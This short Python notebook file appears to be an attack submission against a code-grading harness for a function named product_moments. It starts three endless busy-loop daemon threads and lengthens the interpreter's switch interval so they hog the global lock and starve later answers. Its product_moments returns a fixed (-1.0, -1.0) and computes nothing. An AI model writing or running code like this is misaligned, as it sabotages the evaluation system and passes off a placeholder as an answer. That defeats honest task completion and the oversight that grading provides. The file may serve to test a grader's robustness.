# Leaves busy threads behind that take the interpreter's lock from the next answers.
# attacks: product_moments

# %%
import sys
import threading


def busy():
    while True:
        sum(range(1000))


sys.setswitchinterval(1.0)
for _ in range(3):
    threading.Thread(target=busy, daemon=True).start()

# %%
def product_moments(d_k, mean_q, var_q, mean_k, var_k):
    return -1.0, -1.0
